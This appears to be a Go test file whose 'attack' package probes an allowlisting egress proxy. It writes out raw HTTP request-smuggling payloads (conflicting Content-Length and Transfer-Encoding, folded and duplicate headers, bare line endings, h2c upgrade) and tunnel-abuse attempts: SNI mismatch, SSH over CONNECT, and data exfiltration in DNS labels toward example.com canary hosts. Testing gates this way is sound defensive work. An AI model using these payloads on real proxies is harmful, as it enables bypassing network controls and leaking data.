//go:build linux

package attack

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
)

// smuggled are attacks by requests that two readers could read in two ways
// (T6). The service that may be reached tells whether it saw the second one.
func smuggled() []Attack {
	second := func(p Plan) string {
		return "GET http://" + token(p.ID) + ".example.com/" + token(p.ID) + " HTTP/1.1\r\nHost: " + token(p.ID) + ".example.com\r\n\r\n"
	}
	post := func(fields, body string) func(Plan) string {
		return func(p Plan) string {
			return "POST http://" + p.Allowed + "/ HTTP/1.1\r\nHost: " + p.Allowed + "\r\n" + fields + "\r\n" + body + second(p)
		}
	}
	head := func(fields string) func(Plan) string {
		return func(p Plan) string {
			return "GET http://" + p.Allowed + "/ HTTP/1.1\r\nHost: " + p.Allowed + "\r\n" + fields + "\r\n"
		}
	}
	all := []Attack{
		{ID: "smuggle-cl-te", Try: "Content-Length and Transfer-Encoding in one request", Run: asks(post("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"))},
		{ID: "smuggle-te-te", Try: "two Transfer-Encodings, one of them odd", Run: asks(post("Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n", "0\r\n\r\n"))},
		{ID: "smuggle-cl-cl", Try: "two lengths that differ", Run: asks(post("Content-Length: 0\r\nContent-Length: 4\r\n", ""))},
		{ID: "smuggle-cl-sign", Try: "a length with a sign", Run: asks(post("Content-Length: +0\r\n", ""))},
		{ID: "smuggle-chunk", Try: "a malformed chunk size", Run: asks(post("Transfer-Encoding: chunked\r\n", "0x0\r\n\r\n"))},
		{ID: "smuggle-fold", Try: "a folded field", Run: asks(head("X: y\r\n Host: " + token("smuggle-fold") + ".example.com\r\n"))},
		{ID: "smuggle-bare-lf", Try: "bare line feeds", Run: asks(func(p Plan) string {
			return "GET http://" + p.Allowed + "/ HTTP/1.1\nHost: " + p.Allowed + "\nX: " + token(p.ID) + "\n\n"
		})},
		{ID: "smuggle-bare-cr", Try: "a bare carriage return in a field", Run: asks(head("X: y\rHost: " + token("smuggle-bare-cr") + ".example.com\r\n"))},
		{ID: "smuggle-two-hosts", Try: "two Host fields", Run: asks(head("Host: " + token("smuggle-two-hosts") + ".example.com\r\n"))},
		{ID: "smuggle-space", Try: "a space before a field's colon", Run: asks(head("Transfer-Encoding : chunked\r\n"))},
		{ID: "host-mismatch", Try: "the listed name in the target, another in Host", Run: hostMismatch},
		{ID: "host-mismatch-back", Try: "an unlisted name in the target, the listed one in Host", Run: asks(func(p Plan) string {
			return "GET http://" + token(p.ID) + ".example.com/ HTTP/1.1\r\nHost: " + p.Allowed + "\r\n\r\n"
		})},
		{ID: "second-request", Try: "an unlisted name in the second request of a connection", Run: secondRequest},
		{ID: "upgrade-h2c", Try: "an upgrade to HTTP/2, for what comes after it", Run: upgrade},
	}
	for i := range all {
		all[i].Row = "T6"
	}
	return all
}

// hostMismatch may be answered, if the service was given the checked name: it
// says in its answer which Host it saw.
func hostMismatch(ctx context.Context, p Plan) Finding {
	raw := "GET http://" + p.Allowed + "/ HTTP/1.1\r\nHost: " + token(p.ID) + ".example.com\r\n\r\n"
	a, err := gateAsk(ctx, p, raw)
	if err == nil && a.status == 200 && strings.Contains(a.body, "host="+p.Allowed+"\n") {
		return held("%v, with the checked name as Host", a)
	}
	return refuses(a, err)
}

func secondRequest(ctx context.Context, p Plan) Finding {
	conn, err := gateDial(ctx, p)
	if err != nil {
		return unknown("%v", err)
	}
	defer conn.Close()
	r := bufio.NewReader(conn)
	if _, err := io.WriteString(conn, get("http://"+p.Allowed+"/")); err != nil {
		return unknown("%s", errnoName(err))
	}
	if a, err := readAnswer(r); err != nil || a.status != 200 {
		return unknown("the first request got %v, %v", a, err)
	}
	if _, err := io.WriteString(conn, unlisted("http")(p)); err != nil {
		return held("%s", errnoName(err))
	}
	return refuses(readAnswer(r))
}

// upgrade may be answered too, as the request without its upgrade.
func upgrade(ctx context.Context, p Plan) Finding {
	raw := "GET http://" + p.Allowed + "/ HTTP/1.1\r\nHost: " + p.Allowed +
		"\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"
	a, err := gateAsk(ctx, p, raw)
	if err == nil && a.status == 200 && strings.Contains(a.body, "upgrade=\n") {
		return held("%v, with the upgrade taken out", a)
	}
	return refuses(a, err)
}

// tunnels are attacks by what is said in an allowed tunnel (T18).
func tunnels() []Attack {
	all := []Attack{
		{ID: "sni-mismatch", Try: "TLS for another name in an allowed tunnel", Run: func(ctx context.Context, p Plan) Finding {
			return tunnelTLS(ctx, p, token(p.ID)+".example.com")
		}},
		{ID: "sni-none", Try: "TLS without a name in an allowed tunnel", Run: func(ctx context.Context, p Plan) Finding { return tunnelTLS(ctx, p, "") }},
		{ID: "tunnel-plain", Try: "a plain request in an allowed tunnel", Run: tunnelText("GET / HTTP/1.1\r\nHost: x\r\n")},
		{ID: "tunnel-ssh", Try: "SSH in an allowed tunnel", Run: tunnelText("SSH-2.0-")},
		{ID: "tunnel-early", Try: "data in the same packet as CONNECT", Run: tunnelEarly},
		{ID: "dns-labels", Try: "data in the labels of an unlisted name", Run: dnsLabels},
		{ID: "dns-listed-labels", Try: "data in labels below a listed name", Run: asks(func(p Plan) string {
			return get("http://" + strings.Repeat("a0", 20) + "." + token(p.ID) + "." + rebindName("rebind-loopback") + "/")
		})},
	}
	for i := range all {
		all[i].Row = "T18"
	}
	return all
}

// tunnel opens an allowed tunnel.
func tunnel(ctx context.Context, p Plan, early string) (net.Conn, *bufio.Reader, error) {
	conn, err := gateDial(ctx, p)
	if err != nil {
		return nil, nil, err
	}
	r := bufio.NewReader(conn)
	if _, err = io.WriteString(conn, connect(p.Allowed)+early); err == nil {
		var a answered
		if a, err = readAnswer(r); err == nil && a.status != 200 {
			err = fmt.Errorf("the tunnel was refused: %v", a)
		}
	}
	if err != nil {
		conn.Close()
		return nil, nil, err
	}
	return conn, r, nil
}

// tunnelTLS says hello to a service that doesn't speak TLS and answers all the
// same: an answer of any kind means that the hello came through.
func tunnelTLS(ctx context.Context, p Plan, name string) Finding {
	conn, _, err := tunnel(ctx, p, "")
	if err != nil {
		return unknown("%v", err)
	}
	defer conn.Close()
	// No certificate is expected, so none is checked.
	err = tls.Client(conn, &tls.Config{ServerName: name, InsecureSkipVerify: true}).HandshakeContext(ctx) //nolint:gosec // as said
	var alien tls.RecordHeaderError
	switch {
	case err == nil, errors.As(err, &alien):
		return got("the service answered")
	case errnoName(err) == "no answer":
		return unknown("no answer, and no end")
	}
	return held("cut: %s", errnoName(err))
}

func tunnelText(text string) func(context.Context, Plan) Finding {
	return func(ctx context.Context, p Plan) Finding {
		conn, r, err := tunnel(ctx, p, "")
		if err != nil {
			return unknown("%v", err)
		}
		defer conn.Close()
		if _, err := io.WriteString(conn, text+token(p.ID)+"\r\n\r\n"); err != nil {
			return held("cut: %s", errnoName(err))
		}
		return cut(r)
	}
}

func tunnelEarly(ctx context.Context, p Plan) Finding {
	conn, r, err := tunnel(ctx, p, token(p.ID)+"\r\n\r\n")
	if err != nil {
		if p.Gate != "" && (errors.Is(err, io.EOF) || errnoName(err) == "ECONNRESET") {
			return held("cut")
		}
		return unknown("%v", err)
	}
	defer conn.Close()
	return cut(r)
}

// cut judges what comes of a tunnel that has to end.
func cut(r *bufio.Reader) Finding {
	b, err := r.ReadByte()
	switch {
	case err == nil:
		return got("the service answered, beginning with %q", b)
	case errnoName(err) == "no answer":
		return unknown("no answer, and no end")
	}
	return held("cut: %s", errnoName(err))
}

// dnsLabels sends what a leak would: the canary name server sees any of it.
func dnsLabels(ctx context.Context, p Plan) Finding {
	var list []Finding
	for i := range 4 {
		name := fmt.Sprintf("%s%d.%s.example.com", strings.Repeat("7a", 25), i, token(p.ID))
		list = append(list, asks(func(Plan) string { return connect(name + ":443") })(ctx, p))
	}
	return worst(list)
}
